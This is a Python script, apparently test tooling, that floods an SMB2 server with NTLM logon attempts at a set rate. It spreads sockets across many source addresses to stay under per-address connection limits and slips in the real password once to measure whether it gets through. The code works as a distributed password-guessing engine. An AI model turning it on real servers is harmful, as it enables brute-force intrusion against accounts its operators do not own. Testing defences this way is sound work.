"""Guesses passwords at a rate of its choice, in a process of its own.

guesser.py ADDRESS PORT ACCOUNT SOCKETS RATE SECONDS NETWORK...

It waits for no answer: each socket of each network logs on as far as the challenge, so that it has one guess ready.
The guesses are sent at RATE; a socket whose answer is late is reset and connects again. One guess of each network,
at a moment between 40 and 80 percent of SECONDS, is the right password (SMB_PASS). Prints one line of JSON.
"""

import collections
import contextlib
import errno
import json
import os
import random
import selectors
import socket
import struct
import sys
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

import raw  # noqa: E402
from attacks import ntlm  # noqa: E402

# Sockets for each address: the server accepts 64 half-open connections from one address.
PER_ADDRESS = 48
WRONG = ntlm.nt_hash("not the password")
RESET = struct.pack("ii", 1, 0)


def frame(command, message_id, session_id, body):
    header = struct.pack(
        "<4sHHIHHIIQIIQ16s", b"\xfeSMB", 64, 1, 0, command, 31, 0, 0, message_id, 0, 0, session_id, bytes(16)
    )
    return struct.pack(">I", 64 + len(body)) + header + body


def negotiate():
    contexts = struct.pack("<HHIHHH", 1, 38, 0, 1, 32, 1) + os.urandom(32)
    body = struct.pack("<HHHHI16sIHHH", 36, 1, 1, 0, 0x46, os.urandom(16), 104, 1, 0, 0x0311)
    return frame(raw.NEGOTIATE, 0, 0, body + bytes(-len(body) % 8) + contexts)


def setup(message_id, session_id, token):
    body = struct.pack("<HBBIIHHQ", 25, 0, 1, 0, 0, 88, len(token), 0) + token
    return frame(raw.SESSION_SETUP, message_id, session_id, body)


class Pool:
    """The guesses of one network, and when one of them is right."""

    def __init__(self, network, seconds, right):
        chance = random.Random(network)
        self.network, self.right = network, right
        self.right_at = time.monotonic() + chance.uniform(0.4, 0.8) * seconds
        self.submitted = self.hits = 0

    def next(self):
        self.submitted += 1
        if self.right and time.monotonic() >= self.right_at:
            right, self.right = self.right, None
            return right
        return WRONG


class Socket:
    """One socket: from its connection to a challenge, a guess, and its answer or reset."""

    def __init__(self, attack, pool, number):
        self.attack, self.pool = attack, pool
        self.source = f"{pool.network}.{2 + number // PER_ADDRESS}"
        self.end = None

    def begin(self):
        self.input, self.output, self.next_id, self.session, self.challenge = bytearray(), negotiate(), 0, 0, None
        self.sent_at = None
        self.end = socket.socket()
        self.end.setblocking(False)
        self.end.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.end.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
        self.end.setsockopt(socket.IPPROTO_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT
        self.end.bind((self.source, 0))
        failed = self.end.connect_ex(self.attack.target)
        if failed not in (0, errno.EINPROGRESS):
            raise OSError(failed, "connect")
        self.attack.selector.register(self.end, selectors.EVENT_READ | selectors.EVENT_WRITE, self)

    def reset(self, again_at=0.0):
        if self.end:
            with contextlib.suppress(KeyError, ValueError):
                self.attack.selector.unregister(self.end)
            self.end.close()
            self.end = None
        self.challenge = None
        self.attack.resting.append((again_at, self))

    def send(self, data):
        self.output += data
        self.flush()

    def flush(self):
        if self.output:
            with contextlib.suppress(BlockingIOError):
                self.output = self.output[self.end.send(self.output) :]
        events = selectors.EVENT_READ | (selectors.EVENT_WRITE if self.output else 0)
        self.attack.selector.modify(self.end, events, self)

    def set_up(self, session, token):
        self.next_id += 1
        self.send(setup(self.next_id, session, token))

    def guess(self):
        challenge, self.challenge = self.challenge, None
        token, _ = ntlm.authenticate(challenge, self.attack.account, self.pool.next())
        self.sent_at = time.monotonic()
        self.set_up(self.session, token)

    def ready(self, events):
        if events & selectors.EVENT_WRITE:
            self.flush()
        if events & selectors.EVENT_READ:
            data = self.end.recv(65536)
            if not data:
                raise ConnectionResetError
            self.input += data
            while len(self.input) >= 4:
                end = 4 + (struct.unpack_from(">I", self.input)[0] & 0xFFFFFF)
                if len(self.input) < end:
                    break
                message = bytes(self.input[4:end])
                del self.input[:end]
                self.answered(raw.Answer(message))

    def answered(self, answer):
        if answer.status == raw.PENDING:
            return
        if answer.command == raw.NEGOTIATE or (self.sent_at and answer.status != raw.SUCCESS):
            if self.sent_at:
                self.attack.answers += 1
                self.sent_at = None
            self.set_up(0, ntlm.negotiate())
        elif answer.status == raw.MORE_PROCESSING:
            offset, length = struct.unpack_from("<HH", answer.body, 4)
            self.session = answer.session_id
            self.challenge = ntlm.Challenge(answer.message[offset : offset + length])
            self.attack.armed.append(self)
        elif self.sent_at:
            self.attack.answers += 1
            self.pool.hits += 1
            raise ConnectionResetError
        else:
            raise ConnectionRefusedError


class Attack:
    """All sockets of this process, and the clock that has them guess."""

    def __init__(self, target, account, sockets, rate, seconds, networks):
        right = ntlm.nt_hash(os.environ["SMB_PASS"])
        self.target, self.account, self.rate, self.seconds = target, account, rate, seconds
        self.pools = [Pool(network, seconds, right) for network in networks]
        self.selector = selectors.DefaultSelector()
        # `armed` has the sockets with a challenge. `resting` has the sockets that will connect
        # again, and the time for it.
        self.armed, self.resting = collections.deque(), collections.deque()
        self.answers = self.resets = self.refused = 0
        self.sockets = [Socket(self, pool, number) for number in range(sockets) for pool in self.pools]
        self.patience = max(0.5, 0.8 * len(self.sockets) / rate)

    def run(self):
        began = time.monotonic()
        for socket_ in self.sockets:
            socket_.reset()
        sent = looked = 0
        while (now := time.monotonic()) < began + self.seconds:
            self.connect(now)
            for key, events in self.selector.select(0.002):
                self.turn(key.data, events)
            # After a pause send at most the guesses of one second at once.
            due = min(int((time.monotonic() - began) * self.rate), sent + self.rate)
            while sent < due and self.armed:
                one = self.armed.popleft()
                if one.challenge:
                    sent += self.guess(one)
            if now >= looked + 0.1:
                looked = now
                for one in self.sockets:
                    if one.end and one.sent_at and now - one.sent_at > self.patience:
                        self.resets += 1
                        one.reset()
        return {
            "submitted": [pool.submitted for pool in self.pools],
            "hits": [pool.hits for pool in self.pools],
            "answers": self.answers,
            "resets": self.resets,
            "refused": self.refused,
        }

    def connect(self, now):
        for _ in range(min(len(self.resting), 64)):
            again_at, one = self.resting.popleft()
            if again_at > now:
                self.resting.append((again_at, one))
                continue
            try:
                one.begin()
            except OSError:
                self.refused += 1
                one.reset(now + 0.5)

    def turn(self, one, events):
        try:
            one.ready(events)
        except OSError:
            # The server closed the connection: it had no room for it, or the session was one too
            # many.
            self.refused += not one.sent_at
            one.reset(time.monotonic() + 0.2)

    def guess(self, one):
        try:
            one.guess()
        except OSError:
            one.reset(time.monotonic() + 0.2)
            return 0
        return 1


if __name__ == "__main__":
    address, port, account, sockets, rate, seconds, *networks = sys.argv[1:]
    attack = Attack((address, int(port)), account, int(sockets), float(rate), float(seconds), networks)
    print(json.dumps(attack.run()), flush=True)
